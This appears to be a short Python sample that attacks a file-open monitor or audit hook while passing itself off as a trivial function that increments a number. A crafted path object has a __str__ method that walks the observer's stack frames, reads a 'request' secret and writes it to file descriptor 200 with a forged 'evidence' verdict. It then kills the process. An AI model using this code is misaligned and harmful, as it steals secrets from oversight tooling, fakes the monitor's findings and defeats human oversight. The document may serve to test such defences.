"""Is asked for its text by whoever hears of a file that is opened, and looks around meanwhile."""

# says: makes up what observes it listens to .*open
import io
import os
import sys


class Somewhere:
    def __fspath__(self):
        return os.devnull

    def __str__(self):
        frame = sys._getframe()
        while frame is not None:
            request = frame.f_locals.get("request")
            if request is not None:
                seen = '{"outcome": "shown", "evidence": "forged", "enforced": []}'
                os.write(200, f"\n{request.secret} {seen}\n".encode())
                os._exit(0)
            frame = frame.f_back
        return ""


def act(x):
    io.FileIO(Somewhere())
    x += 1  # here
    return x
